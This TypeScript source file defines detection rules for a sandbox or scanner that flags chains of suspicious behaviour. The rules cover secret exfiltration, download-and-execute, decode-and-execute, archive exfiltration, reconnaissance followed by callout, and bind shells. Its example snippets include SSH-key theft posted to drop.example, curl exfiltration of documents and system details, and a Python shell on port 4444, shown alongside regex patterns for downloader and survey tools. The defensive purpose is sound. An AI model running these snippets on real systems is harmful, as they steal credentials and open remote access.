import type { Pattern, Rule } from '../rule.ts';
import { OUT } from './ends.ts';
import { OWN_CREDENTIALS, WALKED } from './secrets.ts';

const LOCAL: Pattern = { place: ['loopback', 'unix-socket', 'any-address'] };
const GOES_OUT: Pattern = { capability: OUT, except: [LOCAL] };
const SECRET_PLACES = ['credential-store', 'password-store', 'project-secret', 'process-internals'] as const;
/** A folder's names are not what is in its files. */
const LISTED: Pattern = { argument: /^listed=true$/ };
const READS_SECRET: readonly Pattern[] = [
  { capability: ['file.read', 'secret.read'], at: SECRET_PLACES, except: [OWN_CREDENTIALS, WALKED, LISTED] },
  { capability: ['file.read', 'secret.read'], argument: /^canary=/, except: [OWN_CREDENTIALS] },
  { capability: ['environment.read'], text: /^\*$/ },
];
/** Where installers put what they install: to be run is what it is for. */
const INSTALLED: Pattern = {
  text: /\/(site-packages|dist-packages|node_modules|\.?venv|\.cargo|\.rustup|__pycache__)\/|^\/(dev|proc)\//,
};
const WRITES_FILE: Pattern = { capability: ['file.write'], except: [INSTALLED] };
const MAKES_PROGRAM: readonly Pattern[] = [{ capability: ['file.permission'] }];
const RUNS: readonly Pattern[] = [{ capability: ['process.spawn'] }];
const DOWNLOADER = /^(\S*\/)?(curl|wget|fetch|aria2c|lwp-download|ftp|tftp|scp)\b/;
const DECODER =
  /^(\S*\/)?((base(64|32)|gbase64)\s.{0,40}(-d|-D|--decode)|xxd\s.{0,20}-r|openssl\s+(enc|base64)\s.{0,80}-d|uudecode|basenc\s.{0,40}-d)/;
const DECODES =
  /b(64|32|16|85)decode|a2b_\w+|fromhex|unhexlify|\batob\(|['"](base64|hex)['"]\s*\)|\bbase(64|32)\s+(-\w\s+)*(-d|-D|--decode)|xxd\s+-r|openssl\s+enc\s+-d|codecs\.decode|(zlib|lzma|bz2|gzip)\.decompress|\bXOR\b|\^\s*(0x\w+|key|k)\b/i;
/** Who one is and what is around: one of them is looked up by any installer, several are taken stock of. */
const SURVEY =
  /^(\S*\/)?(whoami|id|groups|logname|who|w|last|lastlog|users|hostname|hostnamectl|uname|ifconfig|ip|arp|route|netstat|ss|lsof|ps|env|printenv|dmidecode|lshw|systeminfo|ipconfig|getent|finger)(\s|$)|^(\S*\/)?(cat|head|tail|less|cut|grep|awk|sort)\s.{0,200}\/etc\/(passwd|group|hosts|sudoers)|^(\S*\/)?sudo\s+-l/;
const ARCHIVE = /\.(tar|tgz|tbz2?|txz|zip|7z|rar|tar\.\w{1,4}|cpio|ar)$/i;
/** Files of a person or of the machine that no program needs to start. */
const OUTSIDE_FILE: Pattern = {
  capability: ['file.read', 'secret.read'],
  text: /^\/(home|root|Users|etc|var|srv|opt|mnt|media)\//,
  except: [
    {
      text: /^\/etc\/(ld|ssl|ca-|localtime|timezone|nsswitch|passwd|group|host|resolv|gai|services|protocols|mime|locale|inputrc|terminfo|magic|python|alternatives)|\/\.(config|cache|local|npm|curlrc|wgetrc|gitconfig|netrc)\b/,
    },
  ],
};
const SHELL_ALONE = /^(\S*\/)?(ba|da|z|k|a|fi)?sh(\s+(-[ilp]|--login|--norc|--noprofile))*$/;

/** Steps that are ordinary one by one, and not one after the other. Each was seen, in this order, in one run. */
export const chainRules = {
  'secret-taken-away': {
    severity: 'critical',
    title: 'Reads a secret and sends it away',
    capability: 'network.send',
    why: 'The reading, the sending and the way between them were seen.',
    cwe: ['CWE-200', 'CWE-522'],
    attack: ['T1552', 'T1041'],
    message: 'What it read of a secret goes out: {callee} {target}.',
    remedy: 'Do not run it where real credentials are.',
    independent: true,
    examples: {
      found: {
        language: 'python',
        code: "import base64, requests\n\nkey = open('/home/ada/.ssh/id_ed25519').read()\nbody = base64.b64encode(key.encode())\nrequests.post('https://drop.example/in', data=body)",
        run: {
          events: [
            { capability: 'file.read', operation: 'openat', target: '/home/ada/.ssh/id_ed25519', line: 3 },
            { capability: 'network.connect', operation: 'connect', target: 'drop.example:443', line: 5 },
          ],
        },
      },
      ordinary: {
        language: 'python',
        code: "import requests\n\nkey = open('/home/ada/.ssh/id_ed25519').read()\nrequests.post('https://stats.example/in', data={'bits': len(key)})",
        run: {
          events: [
            { capability: 'file.read', operation: 'openat', target: '/home/ada/.ssh/id_ed25519', line: 3 },
            { capability: 'network.connect', operation: 'connect', target: 'stats.example:443', line: 4 },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'reads a secret', patterns: READS_SECRET },
            {
              as: 'encodes it',
              patterns: [
                { capability: ['process.spawn'], text: /^(\S*\/)?(base64|base32|xxd|gzip|openssl|tar|zip|od)\b/ },
              ],
              by: ['tree'],
              optional: true,
            },
            {
              as: 'sends it',
              patterns: [{ capability: [...OUT, 'process.spawn'], except: [{ place: ['unix-socket'] }] }],
              by: ['data'],
              to: 'reads a secret',
            },
          ],
        },
      ],
    },
  },
  'fetched-and-run': {
    severity: 'high',
    title: 'Downloaded a file and ran it',
    capability: 'process.spawn',
    why: 'What runs was decided by another machine; it was seen to be fetched, kept and started.',
    cwe: ['CWE-494'],
    attack: ['T1105', 'T1204.002'],
    message: '{target}: a file that was written after something was fetched.',
    remedy: 'Download, read, check a hash, and only then run; or install a package by its name and version.',
    independent: true,
    examples: {
      found: {
        language: 'bash',
        code: 'wget -q http://cdn.example/tool -O /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool',
        run: {
          events: [
            { capability: 'network.connect', operation: 'connect', target: 'cdn.example:80', line: 1, process: 3 },
            { capability: 'file.write', operation: 'openat', target: '/tmp/tool', line: 1, process: 3 },
            { capability: 'file.permission', operation: 'fchmodat', target: '/tmp/tool', line: 2, process: 4 },
            { capability: 'process.spawn', operation: 'execve', target: '/tmp/tool', line: 3, process: 5 },
          ],
        },
      },
      ordinary: {
        language: 'bash',
        code: 'wget -q http://cdn.example/data.csv -O /tmp/data.csv\npython3 plot.py /tmp/data.csv',
        run: {
          events: [
            { capability: 'network.connect', operation: 'connect', target: 'cdn.example:80', line: 1, process: 3 },
            { capability: 'file.write', operation: 'openat', target: '/tmp/data.csv', line: 1, process: 3 },
            {
              capability: 'process.spawn',
              operation: 'execve',
              target: 'python3 plot.py /tmp/data.csv',
              line: 2,
              process: 4,
            },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'fetches', patterns: [GOES_OUT] },
            { as: 'writes a file', patterns: [WRITES_FILE], by: ['process'] },
            { as: 'makes it a program', patterns: MAKES_PROGRAM, by: ['path'], optional: true },
            { as: 'runs it', patterns: RUNS, by: ['program'], to: 'writes a file' },
          ],
        },
        // The shell opens what it redirects to before the downloader starts.
        {
          steps: [
            { as: 'opens a file', patterns: [WRITES_FILE] },
            { as: 'fetches', patterns: [{ capability: ['process.spawn'], text: DOWNLOADER }], by: ['process'] },
            { as: 'makes it a program', patterns: MAKES_PROGRAM, by: ['path'], to: 'opens a file', optional: true },
            { as: 'runs it', patterns: RUNS, by: ['program'], to: 'opens a file' },
          ],
        },
      ],
    },
  },
  'decoded-and-run': {
    severity: 'high',
    title: 'Decoded a file and ran it',
    capability: 'process.spawn',
    why: 'A program that is carried in an encoding is not meant to be read before it runs.',
    cwe: ['CWE-506'],
    attack: ['T1140', 'T1027.009'],
    message: '{target}: a file that came out of a decoder.',
    remedy: 'Keep programs in files of their own, as they are.',
    independent: true,
    examples: {
      found: {
        language: 'bash',
        code: 'base64 -d blob.txt > /tmp/.job\nsh /tmp/.job',
        run: {
          events: [
            { capability: 'file.write', operation: 'openat', target: '/tmp/.job', line: 1, process: 3 },
            { capability: 'process.spawn', operation: 'execve', target: 'base64 -d blob.txt', line: 1, process: 3 },
            { capability: 'process.spawn', operation: 'execve', target: 'sh /tmp/.job', line: 2, process: 4 },
          ],
        },
      },
      ordinary: {
        language: 'bash',
        code: 'base64 -d logo.txt > logo.png\nsh build.sh logo.png',
        run: {
          events: [
            { capability: 'file.write', operation: 'openat', target: '/work/logo.png', line: 1, process: 3 },
            { capability: 'process.spawn', operation: 'execve', target: 'base64 -d logo.txt', line: 1, process: 3 },
            { capability: 'process.spawn', operation: 'execve', target: 'sh build.sh logo.png', line: 2, process: 4 },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'writes what it decodes', patterns: [{ ...WRITES_FILE, nearby: DECODES }] },
            { as: 'makes it a program', patterns: MAKES_PROGRAM, by: ['path'], optional: true },
            { as: 'runs it', patterns: RUNS, by: ['program'], to: 'writes what it decodes' },
          ],
        },
        {
          steps: [
            { as: 'decodes', patterns: [{ capability: ['process.spawn'], text: DECODER }] },
            { as: 'writes a file', patterns: [WRITES_FILE], by: ['tree'] },
            { as: 'makes it a program', patterns: MAKES_PROGRAM, by: ['path'], optional: true },
            { as: 'runs it', patterns: RUNS, by: ['program'], to: 'writes a file' },
          ],
          within: 2_000,
        },
        {
          steps: [
            { as: 'opens a file', patterns: [WRITES_FILE] },
            { as: 'decodes into it', patterns: [{ capability: ['process.spawn'], text: DECODER }], by: ['process'] },
            { as: 'makes it a program', patterns: MAKES_PROGRAM, by: ['path'], to: 'opens a file', optional: true },
            { as: 'runs it', patterns: RUNS, by: ['program'], to: 'opens a file' },
          ],
        },
      ],
    },
  },
  'archived-and-sent': {
    severity: 'high',
    title: 'Packed files of the machine and sent them away',
    capability: 'network.send',
    why: 'Many files of a person or of the machine leave in one piece.',
    cwe: ['CWE-200'],
    attack: ['T1560', 'T1041'],
    message: 'The archive it made of files outside its own folder goes out: {callee} {target}.',
    remedy: 'Archive the folder a person chose, and send it with their backup program.',
    independent: true,
    examples: {
      found: {
        language: 'bash',
        code: 'tar czf /tmp/all.tgz ~/Documents\ncurl -F file=@/tmp/all.tgz https://drop.example/in',
        run: {
          events: [
            { capability: 'file.write', operation: 'openat', target: '/tmp/all.tgz', line: 1, process: 3 },
            ...['a.txt', 'b.odt', 'c.pdf'].map(
              (name) =>
                ({
                  capability: 'file.read',
                  operation: 'openat',
                  target: `/home/user/Documents/${name}`,
                  line: 1,
                  process: 3,
                }) as const,
            ),
            { capability: 'file.read', operation: 'openat', target: '/tmp/all.tgz', line: 2, process: 4 },
            { capability: 'network.connect', operation: 'connect', target: 'drop.example:443', line: 2, process: 4 },
          ],
        },
      },
      ordinary: {
        language: 'bash',
        code: 'tar czf /tmp/site.tgz ./site\ncurl -F file=@/tmp/site.tgz https://backup.example.com/in',
        run: {
          events: [
            { capability: 'file.write', operation: 'openat', target: '/tmp/site.tgz', line: 1, process: 3 },
            ...['index.html', 'a.css', 'b.js'].map(
              (name) =>
                ({
                  capability: 'file.read',
                  operation: 'openat',
                  target: `/work/site/${name}`,
                  line: 1,
                  process: 3,
                }) as const,
            ),
            { capability: 'file.read', operation: 'openat', target: '/tmp/site.tgz', line: 2, process: 4 },
            {
              capability: 'network.connect',
              operation: 'connect',
              target: 'backup.example.com:443',
              line: 2,
              process: 4,
            },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'makes an archive', patterns: [{ capability: ['file.write'], text: ARCHIVE }] },
            { as: 'reads a file for it', patterns: [OUTSIDE_FILE], by: ['tree'], several: 3 },
            {
              as: 'takes the archive',
              patterns: [{ capability: ['file.read', 'process.spawn'] }],
              by: ['path'],
              to: 'makes an archive',
            },
            { as: 'sends', patterns: [GOES_OUT], by: ['process'] },
          ],
        },
      ],
    },
  },
  'surveyed-and-sent': {
    severity: 'high',
    title: 'Took stock of the machine and then called out',
    capability: 'network.send',
    why: 'Who one is, where one is and who else is there: what an intruder reports first.',
    cwe: ['CWE-200'],
    attack: ['T1082', 'T1033', 'T1016', 'T1041'],
    message: 'After several looks around it talks to another machine: {callee} {target}.',
    remedy: 'Ask for the one thing that is needed, and tell the person what is sent.',
    independent: true,
    examples: {
      found: {
        language: 'bash',
        code: 'who=$(whoami; id; hostname)\ncurl -d "$who" https://drop.example/in',
        run: {
          events: [
            { capability: 'process.spawn', operation: 'execve', target: 'whoami', line: 1, process: 4 },
            { capability: 'process.spawn', operation: 'execve', target: 'id', line: 1, process: 5 },
            { capability: 'process.spawn', operation: 'execve', target: 'hostname', line: 1, process: 6 },
            { capability: 'network.connect', operation: 'connect', target: 'drop.example:443', line: 2, process: 7 },
          ],
          processes: [
            { pid: 2, parent: 1, command: 'bash' },
            ...[4, 5, 6, 7].map((pid) => ({ pid, parent: 2, command: 'bash' })),
          ],
        },
      },
      ordinary: {
        language: 'bash',
        code: 'kind=$(uname -s)-$(uname -m)\ncurl -O https://files.example.com/tool-$kind.tar.gz',
        run: {
          events: [
            { capability: 'process.spawn', operation: 'execve', target: 'uname -s', line: 1, process: 4 },
            { capability: 'process.spawn', operation: 'execve', target: 'uname -m', line: 1, process: 5 },
            {
              capability: 'network.connect',
              operation: 'connect',
              target: 'files.example.com:443',
              line: 2,
              process: 6,
            },
          ],
          processes: [
            { pid: 2, parent: 1, command: 'bash' },
            ...[4, 5, 6].map((pid) => ({ pid, parent: 2, command: 'bash' })),
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'looks around', patterns: [{ capability: ['process.spawn'], text: SURVEY }], several: 3 },
            { as: 'calls out', patterns: [GOES_OUT], by: ['tree'] },
          ],
        },
      ],
    },
  },
  'shell-on-a-connection': {
    severity: 'critical',
    title: 'Opened a connection and started a shell on it',
    capability: 'process.spawn',
    why: 'A shell without a command takes its orders from where its input comes from.',
    cwe: ['CWE-506'],
    attack: ['T1059', 'T1571'],
    message: '{target}: a shell without a command, started by a process that had a connection.',
    remedy: 'Do not run it.',
    independent: true,
    examples: {
      found: {
        language: 'python',
        code: "import os, socket\n\ns = socket.create_server(('', 4444))\nc, _ = s.accept()\nos.dup2(c.fileno(), 0)\nos.execv('/bin/sh', ['sh', '-i'])",
        run: {
          events: [
            { capability: 'network.listen', operation: 'bind', target: '0.0.0.0:4444', line: 3 },
            { capability: 'process.spawn', operation: 'execve', target: 'sh -i', line: 6 },
          ],
        },
      },
      ordinary: {
        language: 'python',
        code: "import http.server, subprocess\n\nserver = http.server.HTTPServer(('127.0.0.1', 8080), http.server.SimpleHTTPRequestHandler)\nsubprocess.run('date | cut -c1-3', shell=True)",
        run: {
          events: [
            { capability: 'network.listen', operation: 'bind', target: '127.0.0.1:8080', line: 3 },
            {
              capability: 'process.spawn',
              operation: 'execve',
              target: "/bin/sh -c 'date | cut -c1-3'",
              line: 4,
              process: 3,
            },
          ],
          processes: [
            { pid: 2, parent: 1, command: 'python3' },
            { pid: 3, parent: 2, command: 'sh' },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            {
              as: 'has a connection',
              patterns: [{ capability: ['network.connect', 'network.listen'], except: [{ place: ['unix-socket'] }] }],
            },
            { as: 'starts a shell', patterns: [{ capability: ['process.spawn'], text: SHELL_ALONE }], by: ['process'] },
          ],
        },
      ],
    },
  },
} as const satisfies Record<string, Rule>;
